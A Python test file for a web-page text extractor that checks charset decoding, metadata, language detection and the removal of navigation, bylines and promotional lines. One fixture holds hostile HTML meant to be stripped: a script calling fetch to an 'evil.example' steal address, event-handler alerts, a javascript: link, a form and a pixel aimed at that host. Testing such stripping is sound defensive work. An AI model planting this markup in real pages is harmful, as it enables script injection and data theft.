"""webpage: a saved page's text and metadata, decoded as a browser would; the page's furniture
left out by rules that hold for any site; nothing of the page's markup kept."""

from __future__ import annotations

from datetime import date

import pytest
from lxml import etree
from webpages import PARAGRAPHS, news_page

from briefing.s1_read import webpage


def _read(html: str | bytes, name: str = "in/page.html"):
    raw = html.encode("utf-8") if isinstance(html, str) else html
    return webpage.read(raw, name)


def test_the_article_text_and_the_page_metadata_are_read():
    page, problems = _read(news_page())
    assert problems == []
    assert page.text.split("\n") == PARAGRAPHS
    assert page.title == "Old ferry pier to close for two years"
    assert page.published == date(2024, 3, 5)
    assert page.outlet == "The Elsworth Courier"
    assert page.author == "Dana Holt"
    assert page.url == "https://courier.example/news/ferry-pier-to-close"
    assert page.language == "en"
    assert page.encoding == "utf-8"


def test_without_an_author_in_the_metadata_the_byline_names_one_and_is_left_out():
    html = news_page(before="<p>By Lee Park and Sam Roe, Courier staff</p>").replace(
        '<meta name="author" content="Dana Holt">', ""
    )
    page, _ = _read(html)
    assert page.author == "Lee Park and Sam Roe"
    assert "Courier staff" not in page.text


def test_navigation_headline_and_footer_are_not_text():
    page, _ = _read(news_page())
    for words in ("Home", "Weather", "Old ferry pier to close", "All rights reserved", "About us"):
        assert words not in page.text


HOSTILE = """
<script>document.title = "pwned"; fetch("https://evil.example/steal")</script>
<style>p { color: red }</style>
<iframe src="https://evil.example/frame"></iframe>
<p onmouseover="alert('hover')">Hover text <a href="javascript:alert('link')">a link</a> here.</p>
<form action="https://evil.example/post"><input name="q" value="typed"><button>Send</button></form>
<img src="x" onerror="alert('img')">
<noscript><img src="https://evil.example/pixel.gif"></noscript>
"""


def test_scripts_styles_frames_handlers_and_forms_leave_no_trace_in_the_text():
    page, _ = _read(news_page(before=HOSTILE, after=HOSTILE))
    for trace in ("pwned", "evil.example", "color: red", "alert", "javascript", "onerror", "<", ">", "Send"):
        assert trace not in page.text
    assert PARAGRAPHS[0] in page.text


# --- Decoding --------------------------------------------------------------------------------

RUSSIAN = "Городской совет проголосовал за закрытие старого причала на два года."


@pytest.mark.parametrize(
    "case,charset,encoded,text,encoding,problem",
    [
        ("declared windows-1251", "windows-1251", "cp1251", RUSSIAN, "cp1251", None),
        ("declared koi8-r", "koi8-r", "koi8_r", RUSSIAN, "koi8-r", None),
        ("latin-1 read as browsers do, as cp1252", "iso-8859-1", "cp1252", "Café “ouvert” — 5 €.", "cp1252", None),
        ("declared latin-1 but UTF-8", "iso-8859-1", "utf-8", "Café “ouvert” — 5 €.", "utf-8", None),
        ("declared UTF-8 with stray bytes", "utf-8", "cp1252", "Café “ouvert” — 5 €.", "cp1252", "declares UTF-8"),
    ],
)
def test_a_page_is_decoded_by_its_bytes_and_its_declared_charset(case, charset, encoded, text, encoding, problem):
    plain = [p for p in PARAGRAPHS if p.isascii()]  # every charset here can write them
    html = news_page(charset=charset, paragraphs=[*plain[:2], text, *plain[2:]])
    page, problems = _read(html.encode(encoded))
    assert text in page.text.split("\n")
    assert page.encoding == encoding
    if problem is None:
        assert problems == []
    else:
        assert len(problems) == 1 and problem in problems[0].message and problems[0].path == "in/page.html"


def test_a_page_in_another_charset_that_declares_none_is_read_by_a_guess_that_is_named():
    html = news_page(paragraphs=[*PARAGRAPHS, RUSSIAN * 3]).replace('<meta charset="utf-8">', "")
    page, problems = _read(html.encode("cp1251"))
    assert RUSSIAN in page.text
    (problem,) = problems
    assert problem.path == "in/page.html"
    assert "declares no charset and is not UTF-8; read as" in problem.message and "(a guess)" in problem.message


def test_a_byte_order_mark_outranks_the_declared_charset():
    html = news_page(charset="iso-8859-1", paragraphs=[*PARAGRAPHS, "Zürich “quay”."])
    page, problems = _read(html.encode("utf-16"))
    assert "Zürich “quay”." in page.text and page.encoding == "utf-16" and problems == []


@pytest.mark.parametrize(
    "case,raw,words",
    [
        ("empty", b"", "is empty"),
        ("binary", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 50, "binary content"),
        ("no article in it", b"<html><body><nav><a href='/'>Home</a></nav></body></html>", "no article text"),
        ("not markup at all", b"just a few words", "no article text"),
    ],
)
def test_a_page_with_no_article_is_named_and_skipped(case, raw, words):
    page, problems = _read(raw)
    assert page is None
    assert len(problems) == 1 and words in problems[0].message and problems[0].path == "in/page.html"


def test_broken_markup_is_read_as_a_browser_would():
    html = news_page().replace("</p>", "", 3).replace("</article>", "<div><span><b>").replace("</html>", "<p")
    page, problems = _read(html)
    assert problems == []
    assert PARAGRAPHS[4] in page.text and PARAGRAPHS[0][:60] in page.text


def test_a_short_article_in_a_script_without_spaces_is_an_article():
    japanese = "市議会は火曜日、古い桟橋を二年間閉鎖することを決めた。杭の傷みが予想より早かったためである。"
    page, problems = _read(news_page(lang="ja", paragraphs=[japanese]))
    assert page is not None and page.text == japanese and page.language == "ja" and problems == []


def test_a_site_that_names_itself_by_its_address_is_named_by_its_host():
    html = news_page().replace('content="The Elsworth Courier"', 'content="https://www.courier.example/"')
    page, _ = _read(html)
    assert page.outlet == "www.courier.example"


def test_a_huge_page_is_read_whole():
    many = [f"Paragraph {i} of the report says the pier has {i} piles to replace." for i in range(20000)]
    page, _ = _read(news_page(paragraphs=many))
    assert page.text.count("\n") == len(many) - 1


# --- Language --------------------------------------------------------------------------------

GERMAN = [
    "Der Stadtrat hat am Dienstag beschlossen, die alte Fähranlegestelle für zwei Jahre zu schließen, "
    "weil die Holzpfähle schneller verrottet sind als erwartet.",
    "Die Fährbetreiber begrüßten die Entscheidung, aber sie warnten, dass die neue Anlegestelle nicht "
    "für die größeren Schiffe geeignet ist, die im Sommer an den Wochenenden fahren.",
]


def test_the_language_is_the_texts_when_it_can_be_told_else_the_pages():
    page, _ = _read(news_page(lang="en", paragraphs=GERMAN * 3))
    assert page.language == "de"
    # Results name no language's common words: the page's own word is taken.
    results = [
        f"Rodada {i}: Elsworth Rovers {i % 4}, Harbour United {i % 3}, Quay Athletic {i % 5}." for i in range(12)
    ]
    page, _ = _read(news_page(lang="pt-BR", paragraphs=results))
    assert page.language == "pt"


# --- What is left out, rule by rule ----------------------------------------------------------


def _clean(xml: str, title: str | None = None, captions=(), links=(), author: str | None = None) -> list[str]:
    body = etree.fromstring(f"<body>{xml}</body>")
    webpage.clean(body, title, set(captions), set(links), author)
    return [" ".join("".join(el.itertext()).split()) for el in body]


TEXT = "<p>The council voted on Tuesday to close the pier for two years.</p>"


def test_headings_before_the_text_are_the_headline_dek_and_kicker():
    assert _clean('<head rend="h4">Harbour</head><head rend="h1">Pier to close</head>' + TEXT) == [
        "The council voted on Tuesday to close the pier for two years."
    ]


def test_a_long_run_of_headings_before_the_text_is_the_articles_own():
    heads = "".join(f'<head rend="h2">Deal {i}: a ferry ticket for less</head>' for i in range(4))
    assert _clean(heads + TEXT)[:4] == [f"Deal {i}: a ferry ticket for less" for i in range(4)]


def test_the_one_first_rank_heading_is_the_headline_anywhere_several_are_sections():
    assert (
        _clean(TEXT + '<head rend="h1">Pier to close</head>' + TEXT)
        == ["The council voted on Tuesday to close the pier for two years."] * 2
    )
    sections = TEXT + '<head rend="h1">The cost</head>' + TEXT + '<head rend="h1">The ferries</head>' + TEXT
    assert "The cost" in _clean(sections) and "The ferries" in _clean(sections)


def test_a_line_repeating_the_title_before_the_text_is_left_out():
    title = "Old ferry pier to close for two years"
    assert _clean(f"<p>{title}</p>{TEXT}", title=title + " | The Courier")[0].startswith("The council")
    assert _clean(f"{TEXT}<p>{title}</p>", title=title)[-1] == title  # within the text it stays


def test_a_caption_that_is_an_images_alternative_text_is_left_out():
    caption = "The old ferry pier at low tide"
    assert (
        _clean(f"{TEXT}<p>{caption}</p>{TEXT}", captions={caption.lower()})
        == ["The council voted on Tuesday to close the pier for two years."] * 2
    )
    assert _clean(f"{TEXT}<p>Low tide</p>{TEXT}", captions={"low tide"})[1] == "Low tide"  # too short to tell


@pytest.mark.parametrize(
    "line",
    [
        "Share",
        "Comments",
        "You may also like:",
        "Advertisement",
        "DON'T MISS",
        "Read more »",
        "Tell us what you think...",
    ],
)
def test_a_line_that_is_only_a_label_of_the_pages_furniture_is_left_out(line):
    assert _clean(f"{TEXT}<p>{line}</p>{TEXT}")[1] == "The council voted on Tuesday to close the pier for two years."


@pytest.mark.parametrize(
    "line,kept",
    [
        ("Read more: Council approves new bus timetable", False),
        ("[Related: The pier’s history in pictures]", False),
        ("SEE MORE: Ferry fares to rise in spring", False),
        ("Related: How the piles were tested", False),
        ("More: the council also voted on parking", False),
        ("Read more about the vote in the minutes, which the council published with the agenda.", True),
        ("Related to the vote: a second motion on parking passed as well", True),
    ],
)
def test_a_short_line_opened_by_a_link_label_is_left_out(line, kept):
    assert (line in _clean(f"{TEXT}<p>{line}</p>{TEXT}")) == kept


def test_the_links_a_label_heads_go_with_it():
    links = "<list><item>Bus timetable changes</item><item>Harbour walk reopens</item></list>"
    assert (
        _clean(f"{TEXT}<p>You may also like:</p>{links}{TEXT}")
        == ["The council voted on Tuesday to close the pier for two years."] * 2
    )


def test_a_list_of_links_elsewhere_is_left_out_and_a_list_of_the_text_is_kept():
    items = ["Bus timetable changes", "Harbour walk reopens"]
    links = "<list>" + "".join(f"<item>{i}</item>" for i in items) + "</list>"
    assert _clean(TEXT + links, links={i.lower() for i in items}) == [
        "The council voted on Tuesday to close the pier for two years."
    ]
    assert len(_clean(TEXT + links, links={"bus timetable changes"})) == 2


@pytest.mark.parametrize(
    "line",
    [
        "(Reporting by Lee Park; Editing by Sam Roe)",
        "Additional reporting by Lee Park in Elsworth",
        "Sam Roe contributed reporting from the island.",
        "SOURCE: News agencies",
        "Follow the Courier on Twitter and Facebook.",
        "Have a tip? Dana Holt may be reached at dana@courier.example.",
        "Like this story? Share it with a friend!",
        "Sign up for our morning newsletter.",
        "© 2024 The Courier. All rights reserved.",
        "Updated at 1:23 p.m.",
        "4 min read",
    ],
)
def test_a_credit_or_promotion_line_at_either_end_is_left_out(line):
    body = TEXT * 6
    assert line not in _clean(f"{body}<p>{line}</p>")
    assert line not in _clean(f"<p>{line}</p>{body}")
    # In the middle of the text it is the text's own.
    assert line in _clean(f"{body}<p>{line}</p>{body}")


@pytest.mark.parametrize(
    "line,kept",
    [
        ("By Dana Holt", False),
        ("BY DANA HOLT AND LEE PARK", False),
        ("5:45 AM PST 11/19/2019 by Dana Holt", False),
        ("Dana Holt, harbour correspondent", False),  # names the page's author
        ("November 20, 2019 - 11:28 AMT", False),
        ("Tuesday, Nov. 19th at 10 a.m.", True),  # no year, no month: may head a part of the text
        ("10 p.m.", True),
        ("By Thursday the pier was closed.", True),
        ("By the end of the year the pier will reopen.", True),
    ],
)
def test_a_byline_or_a_date_alone_at_either_end_is_left_out(line, kept):
    body = TEXT * 6
    assert (line in _clean(f"<p>{line}</p>{body}", author="Dana Holt")) == kept
    assert line in _clean(f"{body}<p>{line}</p>{body}", author="Dana Holt")


def test_a_long_block_is_never_left_out():
    long = "Read more: " + " ".join(["the council voted"] * 40)
    assert _clean(f"<head rend='h1'>{long}</head>{TEXT}")[0] == long


def test_broken_pages_are_named_and_the_build_goes_on(tmp_path):
    from briefing import assemble

    russian = (
        "Городской совет во вторник решил закрыть старый причал на два года, потому что сваи оказались в "
        "худшем состоянии, чем ожидалось, и новый причал будет построен на севере. Об этом сообщил глава "
        "совета, который также сказал, что работы начнутся уже в этом году."
    )
    cyrillic = news_page(paragraphs=[russian] * 3).replace('<meta charset="utf-8">', "")
    files = {
        "good.html": news_page().encode(),
        "binary.html": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 100,
        "empty.htm": b"",
        "links-only.html": b"<html><body><nav><a href='/'>Home</a></nav></body></html>",
        "undeclared.html": cyrillic.encode("cp1251"),
    }
    for name, raw in files.items():
        (tmp_path / name).write_bytes(raw)
    briefing = assemble.build([tmp_path], root=tmp_path)
    assert sorted(a.article.id for a in briefing.analyses) == ["good", "undeclared"]
    named: dict[str, str] = {}
    for p in briefing.problems:
        named[p.path] = named.get(p.path, "") + p.message
    assert set(named) == {"binary.html", "empty.htm", "links-only.html", "undeclared.html"}
    assert "binary content" in named["binary.html"] and "(a guess)" in named["undeclared.html"]
    assert "is in Russian (ru)" in named["undeclared.html"]
